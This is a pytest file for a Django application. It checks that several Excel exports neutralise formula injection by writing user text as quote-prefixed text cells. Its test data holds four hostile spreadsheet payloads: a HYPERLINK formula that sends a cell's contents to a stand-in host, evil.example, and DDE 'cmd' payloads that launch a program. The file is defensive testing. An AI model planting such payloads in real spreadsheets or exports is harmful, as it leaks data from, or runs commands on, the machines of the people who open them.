"""Formula injection: text typed as ``=…``, ``+…``, ``-…`` or ``@…`` reaches every Excel export as the text it
was (never as a formula), with Excel's quote prefix so it stays text when the cell is edited.

Exports tried: people (the staff list), a person's points archive, a series' meeting items, the care list,
the monthly report's sheets (through the shared ``safe_row``)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from linli.care.tests import conftest as care_fixtures
from linli.conftest import PASSWORD
from linli.core.tests.reliability import check
from linli.core.xlsx import FORMULA_STARTS, safe_row
from linli.meetings import services as meetings
from linli.meetings.tests import conftest as meeting_fixtures
from linli.people.excel.write import export_people
from linli.people.models import Person
from linli.points import ledger
from linli.points.archive import archive_workbook

care = care_fixtures.care  # fixtures
kind, people, series = meeting_fixtures.kind, meeting_fixtures.people, meeting_fixtures.series

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def neutralised(content: bytes, payload: str) -> bool:
    """No formula anywhere; the payload is there as typed, in a quote-prefixed text cell."""
    found = False
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    return False
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    if not cell.quotePrefix:
                        return False
                    found = found or payload in cell.value
    return found


@pytest.mark.parametrize("start", FORMULAS)
def test_people_export(tree, make_person, start):
    make_person(tree.g1, name=FORMULAS[start][:50], note=FORMULAS[start])
    ok = neutralised(export_people(Person.objects.all()), FORMULAS[start][:50])
    assert check("hostile", f"Excel people export: {start}", ok)


@pytest.mark.parametrize("start", FORMULAS)
def test_points_archive(ns, start):
    ns.rider.name = FORMULAS[start][:50]
    ns.rider.save()
    ledger.earn(ns.scheme, ns.rider, 5, key="m1", source="manual", reason=FORMULAS[start], source_ref=FORMULAS[start])
    content = archive_workbook(ns.rider, ledger.person_account(ns.rider))
    assert check("hostile", f"Excel points archive: {start}", neutralised(content, FORMULAS[start]))


@pytest.mark.parametrize("start", FORMULAS)
def test_meeting_items_export(client, people, series, start):
    meeting = series.meetings.order_by("starts_at").first()
    meetings.add_item(people.staff, meeting, title=FORMULAS[start][:100])
    client.force_login(people.staff)
    response = client.get(reverse("meetings:series_export", args=[series.pk]))
    ok = response.status_code == 200 and neutralised(response.content, FORMULAS[start][:100])
    assert check("hostile", f"Excel meeting items: {start}", ok)


@pytest.mark.parametrize("start", FORMULAS)
def test_care_list_export(client, care, start):
    care.recipient.risk_reason = FORMULAS[start]
    care.recipient.family_doctor = FORMULAS[start][:20]
    care.recipient.save()
    assert client.login(username=care.staff.username, password=PASSWORD)
    response = client.get(reverse("care:recipient_export"))
    ok = response.status_code == 200 and neutralised(response.content, FORMULAS[start])
    assert check("hostile", f"Excel care list: {start}", ok)


@pytest.mark.parametrize("write_only", [True, False])
def test_the_shared_row_helper_in_both_kinds_of_workbook(write_only):
    """The monthly report appends its rows through ``safe_row`` (a normal workbook; the others are write-only)."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    sheet.append(safe_row(sheet, [*FORMULAS.values(), "普通文字", 42, None, "a\x07b"]))
    out = io.BytesIO()
    book.save(out)
    values = [c.value for c in next(load_workbook(out).worksheets[0].iter_rows())]
    ok = all(neutralised(out.getvalue(), p) for p in FORMULAS.values()) and values[4:] == ["普通文字", 42, None, "ab"]
    assert check("hostile", "Excel shared row helper", ok), values
